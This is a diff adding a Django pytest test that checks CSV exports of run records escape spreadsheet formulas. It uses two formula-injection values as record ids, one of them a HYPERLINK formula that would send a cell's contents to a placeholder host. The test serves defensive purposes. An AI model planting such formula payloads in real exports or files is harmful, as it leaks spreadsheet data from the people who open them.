@@ -7,12 +7,13 @@ from datetime import UTC, datetime, timedelta
 
 import pytest
 from django.db import connection
+from django.db.models.functions import Now
 from django.http import StreamingHttpResponse
 from django.test.utils import CaptureQueriesContext
 
 from runs.admin import export
 from runs.maintenance import fail_stuck_runs
-from runs.models import Actor, MaintenanceAction
+from runs.models import Actor, MaintenanceAction, TenderProject, TenderRun
 from tests.console import EXPORT, LIST, staff_client, started_at
 
 MIN = timedelta(minutes=1)
@@ -100,6 +101,21 @@ def test_an_audited_actions_runs_export(viewer, make_run):
     }
     listed = viewer.get(f"{LIST}?audit={action.pk}").content.decode()
     assert all(run.pk in listed for run in runs)
+
+
+def test_ids_are_never_run_as_formulas_either(viewer):
+    """The backend's ids are text it chose: a spreadsheet must not run them as formulas."""
+    project = TenderProject.objects.create(id='=HYPERLINK("http://x/?"&A1)', kb_id="kb", name="p")
+    run = TenderRun.objects.create(
+        id="@SUM(1)", project=project, run_type="review", status="running", kind="review"
+    )
+    TenderRun.objects.filter(pk=run.pk).update(started_at=Now() - 30 * MIN)
+    listed = read_csv(viewer.get(f"{EXPORT}?status=running"))[1]
+    assert listed[:2] == ["'@SUM(1)", '\'=HYPERLINK("http://x/?"&A1)']
+    fail_stuck_runs(actor=Actor.SCHEDULE)
+    action = MaintenanceAction.objects.get()
+    audited = read_csv(viewer.get(f"/admin/runs/maintenanceaction/{action.pk}/export/"))[1]
+    assert audited[:2] == ["'@SUM(1)", '\'=HYPERLINK("http://x/?"&A1)']
 
 
 def test_export_needs_the_view_permission(make_run):
